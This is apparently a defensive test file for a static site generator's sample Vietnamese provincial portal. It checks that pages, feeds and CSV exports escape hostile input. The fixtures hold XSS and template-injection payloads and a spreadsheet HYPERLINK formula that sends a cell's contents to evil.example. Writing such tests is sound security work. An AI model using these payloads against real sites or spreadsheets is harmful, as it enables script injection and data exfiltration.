import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import sharp from "sharp";
import * as assert from "uvu/assert";
import { tagsOf } from "../markup.ts";
import { article, harmless, head, type Files, type HarmlessRow, type Site } from "../rows.ts";

/** Closes whatever it may stand in, then runs. */
export const payload = "</title></script></textarea>\"'><img src=x onerror=window.pwned=1><script>window.pwned=1</script>]]>-->{{7*7}}";
/** The same for names that must be short. */
const short = "\"><img src=x onerror=window.pwned=1>";
const formula = "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")";

const quoted = (text: string): string => JSON.stringify(text);
const folder = join(import.meta.dirname, "../../fixtures/tinh-mau/data");
const changed = (file: string, ...changes: readonly [from: string, to: string][]): Files => {
  const written = changes.reduce((text, [from, to]) => {
    assert.ok(text.includes(from), `${file} has no ${from}`);
    return text.replace(from, () => to);
  }, readFileSync(join(folder, file), "utf8"));
  return { [`data/${file}`]: written };
};

const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: "#888" } }).jpeg().toBuffer();

/** Names and texts of a whole portal. */
const everywhere: Files = {
  ...changed("site.yml", ["Cổng thông tin điện tử tỉnh Thử Nghiệm", quoted(short)], ["shortTitle: Thử Nghiệm", `shortTitle: ${quoted(short)}`], ["place: tỉnh Thử Nghiệm", `place: ${quoted(short)}`], ["Tin tức và số liệu minh họa của một tỉnh không có thật.", quoted(payload)],
    ["Tỉnh Thử Nghiệm kính chào bạn đọc!", quoted(payload)], ["name: Văn phòng tỉnh Thử Nghiệm", `name: ${quoted(payload)}`], ["Số 1, phố Minh Họa (địa chỉ mẫu)", quoted(payload)], ["\"0200 000 000 (số mẫu)\"", quoted(short)], ["Thứ Hai đến thứ Sáu, 8 giờ đến 17 giờ", quoted(payload)],
    ["Trưởng ban biên tập", quoted(payload)], ["name: Ghi công", `name: ${quoted(payload)}`], ["Ghi rõ nguồn “Cổng Thử Nghiệm” khi đăng lại.", quoted(payload)], ["legal: []", `sharePictures: { since: 2024-04-01 }\nlegal: [{ title: ${quoted(payload)} }]\nnotice: { text: ${quoted(payload)}, url: /lien-he/, linkText: ${quoted(short)} }`],
    ["Thông tin bạn gửi chỉ dùng để trả lời góp ý này.", quoted(payload)], ["publisher: Văn phòng tỉnh Thử Nghiệm", `publisher: ${quoted(payload)}`], ["licence: CC-BY-4.0", `licence: ${quoted(payload)}`], ["Tỉnh Thử Nghiệm\n", `${quoted(payload)}\n`]),
  "data/menu.yml": `- title: ${quoted(short)}\n  url: /lien-he/?x="><script>window.pwned=1</script>\n`,
  ...changed("categories.yml", ["title: Học tập", `title: ${quoted(short)}`], ["Trường lớp và thư viện.", quoted(payload)]),
  ...changed("home.yml", ["Số liệu minh họa", quoted(short)]),
  ...changed("topics.yml", ["Văn hóa đọc", `${quoted(short)}\n  description: ${quoted(payload)}`]),
  ...changed("dimensions.yml", ["Nơi đặt", quoted(formula)], ["Trường học", quoted(`-${short}`)], ["Ngoài phố", quoted(`@SUM(1)${short}`)]),
  ...changed("sources.yml", ["Báo cáo minh họa", quoted(formula)], ["Văn phòng tỉnh Thử Nghiệm", quoted(`+${payload}`)]),
  ...changed("indicators/so-thu-vien.yml", ["Số thư viện (minh họa)", quoted(`=${short}`)], ["Số thư viện mở cửa cho mọi người.", quoted(payload)], ["label: thư viện", `label: ${quoted(short)}`], ["frequency: annual", `frequency: annual\nnote: ${quoted(payload)}`],
    ["deadline: 2025", `deadline: 2025\n    note: ${quoted(payload)}`], ["value: 40", `value: 40\n    note: ${quoted(`=${payload}`)}`]),
  "content/trang/hiem-hoc.md": `---\ntitle: ${quoted(payload)}\nsummary: ${quoted(payload)}\nupdated: 2024-03-01\n---\nChữ.\n`,
  "content/hoi-dap/2024/hiem-hoc.md": `---\ntitle: ${quoted(payload)}\nasked: 2024-03-01\nanswered: 2024-03-02\nansweredBy: ${quoted(payload)}\naskedBy: ${quoted(payload)}\nquestion: ${quoted(`${payload}\n\n${payload}`)}\n---\nTrả lời.\n`,
  "content/tin-tuc/2024/anh-hiem.jpg": photo,
};

const name = "a payload in every field";
const front = head({ title: quoted(payload), date: "2024-04-20", summary: quoted(payload) }, `author: ${quoted(payload)}`, "updated: 2024-04-21", `correction: ${quoted(payload)}`, `tags: [${quoted(short)}, Thư viện]`,
  `source: { name: ${quoted(payload)}, url: "https://a.example/?\\"><script>" }`, `image: { src: anh-hiem.jpg, alt: ${quoted(payload)}, caption: ${quoted(payload)}, credit: ${quoted(payload)} }`, "indicators: [so-thu-vien]");

const textOf = (page: string, tag: string): string | undefined => tagsOf(page).find((found) => found.name === tag)?.text;
const meta = (page: string, key: string): string | undefined => tagsOf(page).find(({ attributes }) => attributes["property"] === key || attributes["name"] === key)?.attributes["content"];
const text = (site: Site, address: string): string => {
  const found = site.get(address);
  assert.ok(found !== undefined, `${address} was not written`);
  return found!;
};
const within = (proofName: string, proof: (page: string, site: Site) => void): HarmlessRow => ({ name: proofName, files: {}, proof: (_, site) => proof(text(site, "/tin-tuc/2024/04/a-payload-in-every-field/"), site) });
const cells = (csv: string, delimiter: string): string[] => (parse(Buffer.from(csv, "latin1"), { bom: true, delimiter, relax_column_count: true }) as string[][]).flat();

export const words: readonly HarmlessRow[] = [
  harmless(name, article(front, `![${payload.replaceAll("]", "")}](anh-hiem.jpg "${payload.replaceAll('"', "")}")\n`), (page) => assert.ok(textOf(page, "h1")), everywhere),
  within("a title in the head", (page) => assert.ok(textOf(page, "title")!.startsWith(payload))),
  within("a title in the heading", (page) => assert.is(textOf(page, "h1")!.trim(), payload)),
  within("a title where a page is shared", (page) => assert.is(meta(page, "og:title"), payload)),
  within("a summary where a page is shared", (page) => assert.is(meta(page, "description"), payload)),
  within("a title in data for search engines", (page) => {
    const things = tagsOf(page).filter(({ attributes }) => attributes["type"] === "application/ld+json").map((found) => JSON.parse(found.text) as { headline?: string });
    assert.ok(things.some(({ headline }) => headline === payload.slice(0, 110) || headline === payload), JSON.stringify(things.map(({ headline }) => headline)));
  }),
  within("a title in RSS", (_, site) => assert.ok(text(site, "/rss.xml").includes("<title>&lt;/title&gt;&lt;/script&gt;"))),
  within("a title in the JSON feed", (_, site) => assert.ok((JSON.parse(text(site, "/feed.json")) as { items: { title: string }[] }).items.some(({ title }) => title === payload))),
  within("no title in the sitemap", (_, site) => assert.not.match(text(site, "/sitemap.xml"), /&(lt|quot|#39);|<(?!\/?(urlset|url|loc|lastmod)\b|\?xml )/)),
  within("a name in the manifest", (_, site) => assert.is((JSON.parse(text(site, "/manifest.webmanifest")) as { short_name: string }).short_name, short)),
  within("a name in what browsers read to search", (_, site) => assert.ok(text(site, "/opensearch.xml").includes("&quot;&gt;&lt;img"))),
  within("no name in the headers", (_, site) => assert.not(/pwned|onerror/.test(text(site, "/_headers")))),
  within("no name for robots", (_, site) => assert.not(/pwned|onerror/.test(text(site, "/robots.txt")))),
  within("formulas in files for spreadsheets", (_, site) => {
    const sheets = [...site].filter(([address]) => address.endsWith("-excel.csv"));
    assert.ok(sheets.length > 1 && sheets.some(([, csv]) => cells(csv, ";").includes(`'${formula}`)));
    for (const [address, csv] of sheets) for (const cell of cells(csv, ";")) if (!/^-?\d+(,\d+)?$/.test(cell)) assert.not.match(cell, /^[=+\-@\t\r\n]/, address);
  }),
  within("formulas in files for programs stay what they are", (_, site) => {
    const sheets = [...site].filter(([address]) => address.endsWith(".csv") && !address.endsWith("-excel.csv"));
    assert.ok(sheets.some(([, csv]) => cells(csv, ",").includes(formula)));
  }),
  within("data files are whole", (_, site) => { for (const [address, json] of site) if (/\.(json|jsonld|webmanifest)$/.test(address)) assert.ok(JSON.parse(json), address); }),
];
